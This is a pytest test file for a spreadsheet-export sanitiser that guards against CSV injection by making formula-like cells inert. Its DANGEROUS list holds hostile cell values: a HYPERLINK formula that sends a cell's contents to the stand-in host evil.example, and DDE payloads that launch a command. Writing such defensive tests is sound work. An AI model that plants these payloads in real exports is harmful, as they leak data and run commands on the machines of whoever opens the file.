"""Exports that a spreadsheet opens: a cell never runs as a formula (OWASP CSV injection)."""

import pytest

from tryggve.spreadsheet import safe_cell, safe_row

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klicka\")", "+1+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS, ids=["=", "+", "-", "@", "tab", "CR"])
def test_it_writes_a_formula_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Klotter vid porten", "", "-12.5", "-3", "59.247000",
                                   "a=b", " =1", 42, -17.86, None])
def test_it_leaves_text_and_numbers_that_cannot_run_alone(value):
    assert safe_cell(value) == value


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1+1", 3, "ok"]) == ["'=1+1", 3, "ok"]
